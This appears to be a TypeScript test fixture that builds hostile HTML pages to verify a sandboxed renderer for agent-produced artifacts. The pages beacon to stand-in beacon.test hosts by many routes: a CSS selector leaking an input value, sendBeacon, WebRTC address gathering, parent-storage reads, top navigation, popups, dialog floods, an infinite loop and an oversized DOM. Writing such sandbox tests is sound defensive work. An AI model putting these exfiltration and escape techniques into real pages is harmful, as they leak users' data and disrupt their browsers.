/** Artifacts that mean no good. In every address, the first label of the name says who is calling. */

const at = (port: number) => (name: string) => `http://${name}.beacon.test:${port}/x`;

/** Without a script, as soon as it is shown or clicked on. */
function markup(port: number): string {
  const url = at(port);
  return `
<link rel="stylesheet" href="${url("stylesheet")}">
<link rel="preload" as="image" href="${url("preload")}">
<link rel="prefetch" href="${url("prefetch")}">
<link rel="preconnect" href="http://preconnect.beacon.test:${port}">
<link rel="dns-prefetch" href="//dns-prefetch.beacon.test">
<link rel="icon" href="${url("icon")}">
<link rel="manifest" href="${url("manifest")}">
<meta http-equiv="x-dns-prefetch-control" content="on">
<style>
  @import url("${url("css-import")}");
  @font-face { font-family: far; src: url("${url("css-font")}"); }
  body { font-family: far; background: url("${url("css-background")}"); }
  input[value^="s"] { background-image: url("${url("css-secret")}"); }
</style>
<input value="secret">
<img src="${url("image")}" alt=""><img srcset="${url("srcset")} 2x" alt="">
<video src="${url("video")}" poster="${url("poster")}" autoplay></video><audio src="${url("audio")}" autoplay></audio>
<object data="${url("object")}"></object><embed src="${url("embed")}">
<iframe src="${url("frame")}"></iframe>
<svg><image href="${url("svg-image")}" width="1" height="1"></image><use href="${url("svg-use")}#x"></use></svg>
<a id="link" href="${url("link")}" ping="${url("ping")}" target="_top">Far away</a>
<a id="download" href="data:application/octet-stream,x" download="x.exe">Program</a>
<form id="form" action="${url("form")}" method="post"><button>Send</button></form>`;
}

/** Things that come to a word each, in `data-done` of the page. */
function script(port: number): string {
  const url = at(port);
  return `
const tries = {
  fetch: () => fetch("${url("fetch")}"),
  xhr: () => new Promise((yes, no) => { const it = new XMLHttpRequest(); it.onload = yes; it.onerror = no; it.open("GET", "${url("xhr")}"); it.send(); }),
  socket: () => new Promise((yes, no) => { const it = new WebSocket("${url("socket").replace("http", "ws")}"); it.onopen = yes; it.onerror = no; }),
  events: () => new Promise((yes, no) => { const it = new EventSource("${url("events")}"); it.onopen = yes; it.onerror = no; }),
  transport: () => new WebTransport("https://transport.beacon.test:${port}/x").ready,
  module: () => import("${url("module")}"),
  eval: async () => eval("1"),
  worker: () => new Promise((yes, no) => { const it = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); it.onmessage = yes; it.onerror = no; }),
  serviceWorker: () => navigator.serviceWorker.register("x.js"),
  sharedMemory: async () => new SharedArrayBuffer(8),
  storage: async () => localStorage.getItem("x"),
  cookie: async () => { document.cookie = "a=b"; return document.cookie || Promise.reject(); },
  database: () => new Promise((yes, no) => { const it = indexedDB.open("x"); it.onsuccess = yes; it.onerror = no; }),
  parentTitle: async () => { parent.document.title = "taken"; },
  parentStorage: async () => parent.localStorage.getItem("x"),
  parentBridge: async () => parent.critique.toString(),
  topLocation: async () => { top.location = "${url("top")}"; },
  popup: async () => window.open("${url("popup")}") ?? Promise.reject(),
  node: async () => require("fs"),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  location: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  clipboard: () => navigator.clipboard.readText(),
  fullscreen: () => document.documentElement.requestFullscreen(),
};
const RTC = { iceServers: [{ urls: "stun:stun.beacon.test:${port}" }, { urls: "turn:turn.beacon.test:${port}?transport=tcp", username: "a", credential: "b" }] };
async function rtc() {
  const peer = new RTCPeerConnection(RTC);
  const found = [];
  const gathered = new Promise((done) => { peer.onicecandidate = ({ candidate }) => candidate ? found.push(candidate.candidate) : done(); });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await gathered;
  return found.join();
}
(async () => {
  const outcomes = {};
  if (parent !== self) {
    for (let i = 0; i < 20; i += 1) { alert("again"); confirm("again"); prompt("again"); }
    print();
  }
  document.getElementById("link").click();
  document.getElementById("download").click();
  document.getElementById("form").submit();
  // Says yes whatever becomes of it.
  navigator.sendBeacon("${url("send-beacon")}", "x");
  for (const [name, attempt] of Object.entries(tries)) {
    outcomes[name] = await Promise.race([(async () => attempt())().then(() => "granted", () => "refused"), new Promise((done) => setTimeout(done, 10_000, "nothing"))]);
  }
  outcomes.addresses = await Promise.race([rtc().catch(() => "refused"), new Promise((done) => setTimeout(done, 10_000, ""))]);
  history.pushState(null, "", "#elsewhere");
  document.documentElement.dataset.done = JSON.stringify(outcomes);
})();`;
}

/** What each of the attempts comes to where scripts are allowed. */
export const REFUSED = [
  ...["fetch", "xhr", "socket", "events", "transport", "module", "eval", "worker", "serviceWorker"],
  ...["sharedMemory", "storage", "cookie", "database", "parentTitle", "parentStorage", "parentBridge", "topLocation"],
  ...["popup", "node", "camera", "location", "clipboard", "fullscreen"],
];

/** Callers that arrive where nothing guards a page: without them, silence would prove nothing. */
export const ARRIVES_UNGUARDED = [
  ...["stylesheet", "preload", "prefetch", "css-import", "css-background", "css-secret", "css-font", "image", "srcset"],
  ...["video", "audio", "poster", "svg-image", "ping", "fetch", "send-beacon", "xhr", "socket", "events", "module"],
  // STUN, and TURN over TCP.
  ...["udp", "tcp", "binary"],
];

export const beaconPage = (port: number): string =>
  `<!doctype html><meta charset="utf-8"><title>Beacons</title>${markup(port)}<script>${script(port)}</script>`;

export const LOOP_PAGE =
  "<!doctype html><title>Loop</title><h1>Loops</h1><script>setTimeout(() => { for (;;) {} }, 100)</script>";

/** Fifty million characters in fifty thousand elements. */
export const HEAVY_PAGE = `<!doctype html><title>Heavy</title><script>
const block = ("<p>" + "x".repeat(1000) + "</p>").repeat(1000);
for (let i = 0; i < 50; i += 1) document.body.insertAdjacentHTML("beforeend", block);
document.documentElement.dataset.done = String(document.querySelectorAll("p").length);
</script>`.replace("<script>", "<body><script>");

/** A run of three rounds, one page each, as an agent would say it. */
export function hostileRun(pages: readonly string[]): string {
  const scores = ["critic", "brand", "a11y", "copy"]
    .map((role) => `<PANELIST role="${role}" score="5" must_fix="0"><DIM name="x" score="5">So.</DIM></PANELIST>`)
    .join("");
  const rounds = pages.map(
    (page, index) => `<ROUND n="${index + 1}"><PANELIST role="designer"><NOTES>A page.</NOTES>
<ARTIFACT mime="text/html"><![CDATA[${page}]]></ARTIFACT></PANELIST>${scores}
<ROUND_END n="${index + 1}" composite="5.0" must_fix="0" decision="continue"><REASON>Below.</REASON></ROUND_END></ROUND>`,
  );
  return `<CRITIQUE_RUN version="1" maxRounds="3" threshold="8.0" scale="10">${rounds.join("\n")}
<SHIP round="3" composite="5.0" status="below_threshold"><SUMMARY>None shipped.</SUMMARY></SHIP></CRITIQUE_RUN>
`;
}
